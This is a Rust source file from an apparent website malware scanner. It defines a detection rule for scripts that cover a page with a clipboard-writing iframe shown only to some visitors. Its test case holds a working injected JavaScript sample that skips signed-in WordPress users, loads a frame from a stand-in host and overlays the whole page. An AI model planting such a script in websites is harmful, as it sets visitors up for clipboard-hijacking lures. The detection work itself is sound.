//! `clipboard-frame-for-some-visitors`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "clipboard-frame-for-some-visitors",
    description: "The script covers the page with a frame that may write to the clipboard, but only for some visitors.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ClipboardFrame]),
        one(&[Atom::FrameElement]),
        one(&[Atom::SignedIn, Atom::Referrer, Atom::Robot]),
        one(&[Atom::Cookie, Atom::Storage]),
    ],
    within: 250,
    only_if: Some(covers),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"if(document.cookie.match(/wp-settings|_v=/))return;var f=document.createElement('iframe');f.src='//c.example/?r='+document.referrer;f.allow='clipboard-write';f.setAttribute('style','position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647');document.body.appendChild(f);document.cookie='_v=1'"#,
        ],
        without: &[
            r#"var f=document.createElement('iframe');f.src='https://widget.example/?r='+document.referrer;f.allow='clipboard-write';f.style.cssText='position:fixed;right:20px;bottom:20px;width:360px;height:480px';document.body.appendChild(f);localStorage.setItem('w',1)"#,
            r#"var f=document.createElement('iframe');f.allow='clipboard-write';f.setAttribute('style','position:fixed;top:0;left:0;width:100%;height:100%');document.body.appendChild(f)"#,
        ],
    },
};

/// Whether something covers the whole page.
fn covers(evidence: &Evidence<'_>, held: Held) -> bool {
    let (stream, items) = (evidence.stream, evidence.stream.items());
    let from = (held.first as usize).saturating_sub(NEAR);
    items[from..items.len().min(held.last as usize + NEAR)].iter().any(|item| {
        let text = stream.text(item);
        let fixed = matches!(item.kind, Kind::Str | Kind::Template)
            && text.contains("position")
            && text.contains("fixed");
        fixed && (text.contains("inset:0") || text.contains("inset: 0") || text.matches("100").count() >= 2)
    })
}

/// Items around the place in which the frame may get its style.
const NEAR: usize = 150;
